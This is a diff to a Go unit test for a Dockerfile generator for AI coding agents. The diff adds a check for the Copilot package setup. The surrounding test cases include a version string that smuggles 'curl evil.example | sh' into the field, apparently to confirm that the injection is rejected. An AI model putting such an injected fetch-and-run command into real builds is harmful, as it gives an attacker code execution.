@@ -37,6 +37,9 @@ func TestDockerfile(t *testing.T) {
 	if s := string(df); strings.Index(s, "NODE_EXTRA_CA_CERTS") > strings.Index(s, "npm install") {
 		t.Errorf("the CA comes after npm:\n%s", s)
 	}
+	if df, _ := Dockerfile(Options{Agent: "copilot"}); !strings.Contains(string(df), "ENV COPILOT_PKG_CACHE_HOME=/opt/copilot-pkg\nRUN copilot --version") {
+		t.Errorf("copilot's addon is not unpacked into the image:\n%s", df)
+	}
 	for _, bad := range []Options{{Agent: "claude", Version: "1.0; curl evil.example | sh"}, {Agent: "cursor", Version: "1.0"}} {
 		if _, err := Dockerfile(bad); err == nil {
 			t.Errorf("%+v accepted", bad)
